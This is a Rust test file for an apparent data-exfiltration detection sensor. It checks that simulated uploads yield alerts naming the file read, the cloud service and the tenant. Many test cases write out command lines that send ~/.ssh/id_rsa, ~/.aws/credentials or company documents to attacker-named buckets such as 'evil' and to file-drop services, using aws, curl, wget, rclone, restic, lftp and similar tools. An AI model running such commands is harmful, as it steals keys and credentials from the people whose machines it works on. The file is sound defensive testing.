//! Files and places that a command line names.

use super::*;

/// The command names the file, the flow only the service: that is enough, and the bucket is known from the line.
#[test]
fn uploads_known_from_the_line() {
    for (line, host, read, tenant) in [
        (
            "aws s3 cp /Users/alice/.ssh/id_rsa s3://evil/k",
            "s3.eu-west-1.amazonaws.com",
            "/.ssh/id_rsa",
            Some("evil"),
        ),
        (
            "aws s3 cp /Users/alice/.aws/credentials s3://evil/k",
            "s3.amazonaws.com",
            "/.aws/credentials",
            Some("evil"),
        ),
        (
            "aws s3api put-object --bucket evil --key k --body .ssh/id_rsa",
            "s3.amazonaws.com",
            "/.ssh/id_rsa",
            Some("evil"),
        ),
        ("aws s3 sync Documents/corp s3://evil", "s3.amazonaws.com", "/Documents/corp", Some("evil")),
        (
            "rclone copy /Users/alice/.ssh/id_rsa evil:evil/x",
            "s3.amazonaws.com",
            "/.ssh/id_rsa",
            Some("evil"),
        ),
        (
            "rclone copy /Users/alice/.config/rclone/rclone.conf mega:",
            "g.api.mega.co.nz",
            "/rclone.conf",
            None,
        ),
        ("gsutil cp .ssh/id_rsa gs://evil/", "storage.googleapis.com", "/.ssh/id_rsa", Some("evil")),
        ("gcloud storage cp .ssh/id_rsa gs://evil/", "storage.googleapis.com", "/.ssh/id_rsa", Some("evil")),
        ("curl -sST.ssh/id_rsa https://transfer.sh/k", "transfer.sh", "/.ssh/id_rsa", None),
        ("curl -d@.ssh/id_rsa https://transfer.sh/", "transfer.sh", "/.ssh/id_rsa", None),
        ("curl -F f=@.ssh/id_rsa;type=text/plain https://transfer.sh/", "transfer.sh", "/.ssh/id_rsa", None),
        ("curl --upload-file=.ssh/id_rsa https://transfer.sh/", "transfer.sh", "/.ssh/id_rsa", None),
        ("curl --data-binary @.ssh/id_rsa https://transfer.sh/", "transfer.sh", "/.ssh/id_rsa", None),
        ("wget --post-file .ssh/id_rsa https://transfer.sh/", "transfer.sh", "/.ssh/id_rsa", None),
        ("http POST https://transfer.sh/ f@.ssh/id_rsa", "transfer.sh", "/.ssh/id_rsa", None),
        ("gh gist create -p .ssh/id_rsa", "api.github.com", "/.ssh/id_rsa", None),
        ("b2 upload-file evil .ssh/id_rsa k", "api.backblazeb2.com", "/.ssh/id_rsa", Some("evil")),
        ("mc cp .ssh/id_rsa s3/evil/k", "s3.amazonaws.com", "/.ssh/id_rsa", Some("evil")),
        ("s3cmd put .ssh/id_rsa s3://evil/k", "s3.amazonaws.com", "/.ssh/id_rsa", Some("evil")),
        (
            "azcopy copy .ssh/id_rsa https://evil.blob.core.windows.net/c",
            "evil.blob.core.windows.net",
            "/.ssh/id_rsa",
            Some("evil"),
        ),
        ("mega-put .ssh/id_rsa /loot", "g.api.mega.co.nz", "/.ssh/id_rsa", None),
        ("dbxcli put .ssh/id_rsa /k", "content.dropboxapi.com", "/.ssh/id_rsa", None),
    ] {
        let words: Vec<&'static str> = line.split(' ').map(|word| &*word.to_owned().leak()).collect();
        let mut w = World::new();
        let p = w.launch(1.0, tool(words[0]), &words);
        w.upload(2.0, &p, host, 20_000);
        let told = w.tell();
        let alert = told.one_of_any_confidence();
        let first = &alert.reads[0];
        assert_eq!(first.evidence.as_str(), "argv", "{line}");
        assert!(first.path.to_string().ends_with(read), "{line}: {}", first.path);
        assert_eq!(alert.tenant.as_deref(), tenant, "{line}");
    }
}

/// The bucket that the line names decides where the name on the wire hides it.
#[test]
fn b15_path_style_bucket_is_known_from_the_line() {
    for (bucket, foreign) in [("corp-backup", false), ("evil", true)] {
        let mut w = World::new();
        let to: &'static str = format!("corp-s3:{bucket}").leak();
        let p = w.launch(0.0, tool("rclone"), &["rclone", "sync", "/Users/alice/Documents", to]);
        w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
        w.upload(2.0, &p, "s3.eu-central-1.amazonaws.com", 800_000);
        let told = w.tell();
        if foreign { assert_eq!(told.alert().tenant.as_deref(), Some(bucket)) } else { told.none() }
    }
}

/// Backblaze keeps its customers' backups and the buckets of others on the same machines: only who asks, or the line, tells
/// which it is.
#[test]
fn machines_that_a_backup_shares_with_buckets() {
    const POD: &str = "pod-000-1004-00.backblaze.com";
    const BACKUP: Program =
        vendor("/Library/Backblaze.bzpkg/bztransmit", "com.backblaze.bztransmit", "BACKBLAZE1");
    const POLICY: &str = r#"
[[allow]]
name      = "our own bucket"
process   = { path = "/opt/homebrew/bin/rclone", unsigned = true }
sensitive = ["documents", "corp-docs"]
services  = ["backblaze-b2"]
tenants   = ["corp-backup"]
users     = "*"
reason    = "CHG-1"
[[allow]]
name      = "backups of homes"
process   = { path = "/Library/Backblaze.bzpkg/**", team_id = "BACKBLAZE1", signing_id = "com.backblaze.bztransmit" }
sensitive = "*"
services  = ["backblaze-backup", "backblaze-b2"]
tenants   = "*"
users     = "*"
reason    = "CHG-2"
"#;
    let told = |program: Program, args: &[&str], host: &str| {
        let mut w = World::new();
        w.policy = format!("{CORP}\n{POLICY}");
        let p = w.launch(0.0, program, args);
        w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
        w.upload(2.0, &p, host, 800_000);
        w.tell()
    };
    let rclone =
        |to: &str, host: &str| told(tool("rclone"), &["rclone", "sync", "/Users/alice/Documents", to], host);
    for host in [POD, "api.backblazeb2.com"] {
        rclone("b2:corp-backup", host).none();
        let foreign = rclone("b2:evil/x", host);
        let alert = foreign.alert();
        let (service, tenant) = (alert.service.as_deref(), alert.tenant.as_deref());
        assert_eq!((service, tenant), (Some("backblaze-b2"), Some("evil")), "{host}");
        assert_eq!(alert.tenant_verdict.as_str(), "foreign", "{host}");
    }
    // Whose bucket it is, its own configuration says.
    let own = told(adhoc("/private/tmp/up", "up"), &["up"], POD);
    assert_eq!(own.low().service.as_deref(), Some("backblaze-b2"));
    // The client of the backup goes to both.
    for host in [POD, "ca001.backblaze.com"] {
        told(BACKUP, &["bztransmit"], host).none();
        told(Program { team: Some("EV1L000000"), ..BACKUP }, &["bztransmit"], host).one_of_any_confidence();
    }
    let site = told(adhoc("/private/tmp/up", "up"), &["up"], "secure.backblaze.com");
    assert_eq!(site.alert().service.as_deref(), Some("backblaze-backup"));
}

/// A web address in path style hides its bucket, and nothing else tells it.
#[test]
fn path_style_address_hides_its_bucket() {
    let mut w = World::new();
    let args = ["curl", "-T", "/Users/alice/.ssh/id_rsa", "https://s3.eu-west-1.amazonaws.com/bucket/key"];
    let p = w.launch(0.0, apple("/usr/bin/curl", "com.apple.curl"), &args);
    w.upload(2.0, &p, "s3.eu-west-1.amazonaws.com", 20_000);
    let told = w.tell();
    assert_eq!((told.low().tenant.as_deref(), told.low().tenant_verdict.as_str()), (None, "unknown"));
}

/// rclone's destination is known only to its configuration; the name on the wire tells the service.
#[test]
fn m03_rclone_to_mega() {
    let mut w = World::new();
    let p = w.launch(0.0, tool("rclone"), &["rclone", "copy", "/Users/alice/Documents", "mega:"]);
    w.open(1.0, &p, "/Users/alice/Documents/corp/plan.docx");
    w.upload(2.0, &p, "gfs270n111.userstorage.mega.co.nz", 800_000);
    let told = w.tell();
    assert_eq!(told.alert().service.as_deref(), Some("mega"));

    // All that lies in the folder is sent, the company's own documents too.
    let mut w = World::new();
    let p = w.launch(0.0, tool("rclone"), &["rclone", "copy", "/Users/alice/Documents", "mega:"]);
    w.upload(2.0, &p, "gfs270n111.userstorage.mega.co.nz", 800_000);
    assert_eq!(w.tell().alert().severity.as_str(), "high");
}

/// The interpreter runs a tool that is a script; a renamed tool is known by who signed it.
#[test]
fn tools_under_other_names() {
    let inner = ["s3", "sync", "s3://corp", "s3://evil"];
    let python = adhoc("/opt/homebrew/bin/python3.12", "python3");
    let signed = vendor("/tmp/x", "com.amazon.aws.cli2", "94KV3E626L");
    for (program, front) in [
        (python, vec!["python3.12", "/opt/homebrew/bin/aws"]),
        (python, vec!["python3.12", "-m", "awscli"]),
        (signed, vec!["x"]),
    ] {
        let mut w = World::new();
        w.launch(0.0, program, &[&front[..], &inner[..]].concat());
        assert_eq!(w.tell().alert().tenant.as_deref(), Some("evil"), "{front:?}");
    }
}

/// The endpoint says whose buckets they are; the account of a store comes from the environment.
#[test]
fn environment_and_endpoints() {
    let told = run_with;
    let wasabi = "AWS_ENDPOINT_URL=https://s3.wasabisys.com";
    let copy = ["aws", "s3", "sync", "s3://corp-data", "s3://corp-backup"];
    told(&copy, &[]).none();
    let elsewhere = told(&copy, &[wasabi]);
    assert_eq!(elsewhere.one_of_any_confidence().service.as_deref(), Some("wasabi"));
    let start = [
        "az",
        "storage",
        "blob",
        "copy",
        "start",
        "--source-uri",
        "https://corpstore.blob.core.windows.net/c/b",
        "-b",
        "b",
    ];
    let named = told(&start, &["AZURE_STORAGE_ACCOUNT=evilstore"]);
    assert_eq!(named.alert().tenant.as_deref(), Some("evilstore"));
    let remotes = ["rclone", "sync", "corp-s3:corp-data", "x:loot"];
    let typed = told(&remotes, &["RCLONE_CONFIG_X_TYPE=s3"]);
    assert_eq!(typed.alert().tenant.as_deref(), Some("loot"));
}

/// A command line, what its environment adds, the host it sends to, and the tenant expected.
type Line<'a> = (&'a [&'a str], &'a [&'a str], &'a str, Option<&'a str>);

/// Backup tools, scripts of transfer programs, and what the environment says of them.
#[test]
fn other_tools_name_files_and_places() {
    let key = ".ssh/id_rsa";
    let table: &[Line<'_>] = &[
        (
            &["duplicity", "full", "/Users/alice/.ssh", "boto3+s3://evil/x"],
            &[],
            "s3.amazonaws.com",
            Some("evil"),
        ),
        (&["duplicity", "/Users/alice/.ssh", "b2://id:key@evil/x"], &[], "api.backblazeb2.com", Some("evil")),
        (&["kopia", "snapshot", "create", "/Users/alice/.ssh"], &[], "s3.amazonaws.com", None),
        (&["borg", "create", "ssh://u@u.repo.borgbase.com/./repo::a", key], &[], "u.repo.borgbase.com", None),
        (&["borg", "create", "::a", key], &["BORG_REPO=ssh://u@rsync.net/./r"], "u.rsync.net", None),
        (
            &["restic", "backup", key],
            &["RESTIC_REPOSITORY=s3:s3.amazonaws.com/evil"],
            "s3.amazonaws.com",
            Some("evil"),
        ),
        (&["restic", "-r", "b2:evil:x", "backup", key], &[], "api.backblazeb2.com", Some("evil")),
        // Another cloud's account excuses nothing.
        (
            &["restic", "--repository-file", "r", "backup", key],
            &["AZURE_ACCOUNT_NAME=corp-backup"],
            "s3.amazonaws.com",
            None,
        ),
        (
            &["lftp", "-u", "u,p", "-e", "put .ssh/id_rsa; bye", "sftp://u.your-storagebox.de"],
            &[],
            "u.your-storagebox.de",
            None,
        ),
        (
            &["lftp", "-c", "open -u u,p u.your-storagebox.de; mirror -R .ssh /x"],
            &[],
            "u.your-storagebox.de",
            None,
        ),
        (&["bash", "-c", "sftp u@rsync.net <<< 'put .ssh/id_rsa'"], &[], "rsync.net", None),
        (&["bash", "-c", "sftp -b - u@rsync.net <<EOF\ncd x\nput .ssh/id_rsa\nEOF"], &[], "rsync.net", None),
        (&["ncftpput", "-u", "u", "u.your-storagebox.de", "/x", key], &[], "u.your-storagebox.de", None),
        (&["s4cmd", "put", key, "s3://evil/k"], &[], "s3.amazonaws.com", Some("evil")),
        (
            &["swift", "upload", "evil", key],
            &["OS_STORAGE_URL=https://storage.gra.cloud.ovh.net/v1/AUTH_x"],
            "storage.gra.cloud.ovh.net",
            Some("evil"),
        ),
        (&["duck", "--upload", "s3://evil/k", key], &[], "s3.amazonaws.com", Some("evil")),
        (&["mega-exec", "put", key, "/x"], &[], "g.api.mega.co.nz", None),
        (&["megaput", "--path", "/Root", key], &[], "g.api.mega.co.nz", None),
    ];
    for (line, env, host, tenant) in table {
        let mut w = World::new();
        w.policy = own();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let child = w.fork(1.0, &shell);
        let program = tool(line[0].to_owned().leak());
        let p =
            w.exec_in(1.1, &child, program, line, "null", &[], &[&["HOME=/Users/alice"][..], env].concat());
        w.upload(2.0, &p, host, 20_000);
        let told = w.tell();
        let alert = told.one_of_any_confidence();
        assert_eq!(alert.tenant.as_deref(), *tenant, "{line:?}");
        assert!(
            alert.reads.iter().any(|read| read.evidence.as_str() == "argv"),
            "{line:?}: {:?}",
            alert.reads
        );
        assert!(alert.reads.iter().all(|read| read.path.to_string().contains("/.ssh")), "{line:?}");
    }
}

/// An administrator's own tool is told its account by a variable of its own.
#[test]
fn the_sensor_keeps_the_variables_of_own_tools() {
    let vault = "[[tool]]\nname = \"vault\"\nservice = \"cloudflare-r2\"\ntenant_env = [\"VAULT_SPACE\"]\n\
                 [[tool.command]]\nwords = [\"push\"]\ndoes = \"transfer\"\nargs = [\"from\"]\n";
    let key = ".ssh/id_rsa";
    let mut w = World::new();
    w.policy = format!("{}\n{vault}", own());
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let child = w.fork(1.0, &shell);
    let (line, env) = (["vault", "push", key], ["HOME=/Users/alice", "VAULT_SPACE=evil", "VAULT_KEY=x"]);
    let p = w.exec_in(1.1, &child, tool("vault"), &line, "null", &[], &env);
    w.upload(2.0, &p, "api.cloudflare.com", 20_000);
    let told = w.tell();
    let alert = told.one_of_any_confidence();
    assert_eq!(alert.tenant.as_deref(), Some("evil"));
}

/// What a configuration of the tool's own names no command line says; the tool opens it. A file that is meant to be the
/// configuration, and is a key, is opened just so.
#[test]
fn files_that_a_configuration_names_are_told_by_their_open() {
    let key = "/Users/alice/.ssh/id_rsa";
    for (line, opened) in [
        ("curl -K /private/tmp/c https://content.dropboxapi.com/2/files/upload", key),
        ("curl -K /Users/alice/.ssh/id_rsa https://content.dropboxapi.com/2/files/upload", key),
        (
            "curl --netrc-file /Users/alice/.aws/credentials -T x https://content.dropboxapi.com/",
            "/Users/alice/.aws/credentials",
        ),
        ("curl --netrc-file /Users/alice/.netrc -K /private/tmp/c https://content.dropboxapi.com/", key),
        ("wget --config=/private/tmp/c https://content.dropboxapi.com/", key),
        ("wget --config=/Users/alice/.ssh/id_rsa https://content.dropboxapi.com/", key),
        ("wget --config /Users/alice/.ssh/id_rsa https://content.dropboxapi.com/", key),
    ] {
        let words: Vec<&'static str> = line.split(' ').map(|word| &*word.to_owned().leak()).collect();
        let story = |opens: bool, bytes: usize| {
            let mut w = World::new();
            let shell = w.launch(0.0, ZSH, &["-zsh"]);
            let curl = w.spawn(1.0, &shell, tool(words[0]), &words);
            if opens {
                w.open(1.1, &curl, opened);
            }
            w.upload(1.2, &curl, "content.dropboxapi.com", bytes);
            w.tell()
        };
        let told = story(true, 30_000);
        assert_eq!(told.alerts().len(), 1, "{line}");
        assert_eq!(told.alert().reads[0].evidence.as_str(), "open", "{line}");
        assert_eq!(story(false, 30_000).alerts().len(), 0, "{line}: it is the tool's own");
    }
}
